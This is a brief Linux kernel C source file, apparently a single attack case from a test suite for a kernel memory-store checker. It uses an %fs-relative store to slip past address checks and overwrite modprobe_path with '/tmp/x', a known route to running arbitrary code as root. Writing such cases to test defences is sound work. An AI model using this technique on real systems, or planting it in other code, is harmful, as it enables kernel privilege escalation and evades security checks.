// SPDX-License-Identifier: GPL-2.0
/*
 * atk_insn_fs: an %fs-relative store.  In the kernel %fs holds the user's
 * base, so %fs:(%rdi) is fsbase + %rdi: with %rdi = modprobe_path - fsbase
 * (target=, fsbase from the task's saved copy) it lands on modprobe_path,
 * while its operand alone names an address a check would refuse or allow
 * at will.
 */
#include <linux/fs.h>
#include <linux/sched.h>
#include "attack.h"

static int attack(struct file *f)
{
	unsigned long off = target - current->thread.fsbase;

	asm volatile("movq %1, %%fs:(%0)"
		     : : "r"(off), "r"(0x782f706d742fUL) : "memory");
	return 0;
}
